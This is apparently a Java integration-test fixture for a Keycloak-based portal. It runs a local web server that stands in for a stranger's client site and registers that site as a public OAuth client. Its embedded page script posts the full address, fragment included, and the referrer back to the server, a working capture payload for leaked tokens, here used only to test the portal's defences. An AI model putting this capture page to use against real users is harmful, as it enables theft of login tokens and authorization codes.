// SPDX-License-Identifier: Apache-2.0
package io.devportal.keycloak.it.attack;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.devportal.keycloak.it.harness.PortalRealm;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.keycloak.representations.idm.ClientRepresentation;

/** The home page of a client that a stranger owns. Its script keeps whatever a browser brings along. */
final class StrangersSite implements AutoCloseable {
    private static final String HTML = "<!DOCTYPE html><title>Shop</title><h1>Shop</h1><script>"
            + "fetch('/keep', {method: 'POST', body: location.href + ' ' + document.referrer})"
            + ".then(() => document.body.append('kept'))</script>";

    private final HttpServer server;
    private final List<String> kept = new CopyOnWriteArrayList<>();

    StrangersSite() {
        try {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.createContext("/", this::answer);
        server.start();
    }

    private void answer(HttpExchange exchange) throws IOException {
        String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
        if (exchange.getRequestURI().getPath().equals("/keep")) {
            kept.add(body.strip());
        } else if (!body.isEmpty()) {
            kept.add(exchange.getRequestURI() + " " + body);
        }
        exchange.getResponseHeaders().set("Content-Type", "text/html");
        byte[] page = HTML.getBytes(StandardCharsets.UTF_8);
        exchange.sendResponseHeaders(200, page.length);
        exchange.getResponseBody().write(page);
        exchange.close();
    }

    String home() {
        return "http://127.0.0.1:" + server.getAddress().getPort() + "/home";
    }

    /** As the home page of a client of theirs. */
    void register(PortalRealm realm, String clientId) {
        ClientRepresentation shop = new ClientRepresentation();
        shop.setClientId(clientId);
        shop.setPublicClient(true);
        shop.setRedirectUris(List.of(home()));
        shop.setBaseUrl(home());
        realm.admin().clients().create(shop).close();
    }

    /** For each visit the whole address as the page sees it, with its fragment, and the address it was left for. */
    List<String> kept() {
        return kept;
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
